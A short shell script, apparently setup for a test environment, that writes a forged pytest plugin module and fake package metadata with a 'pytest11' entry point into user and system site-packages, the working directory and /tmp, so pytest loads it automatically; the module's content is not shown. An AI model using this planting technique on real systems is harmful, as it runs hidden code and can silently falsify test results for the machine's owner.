# A plugin of pytest that its entry point makes known, in the user's folder of packages and in the system's.
. /tmp/scripts/plant.inc
version=$(python3 -c 'import sys; print("python%d.%d" % sys.version_info[:2])')
for folder in /root/.local/lib/$version/site-packages /usr/local/lib/$version/dist-packages "$PWD" /tmp; do
  mkdir -p "$folder/forged-1.dist-info"
  forged_conftest > "$folder/forged.py"
  printf '[pytest11]\nforged = forged\n' > "$folder/forged-1.dist-info/entry_points.txt"
  printf 'Metadata-Version: 2.1\nName: forged\nVersion: 1\n' > "$folder/forged-1.dist-info/METADATA"
done
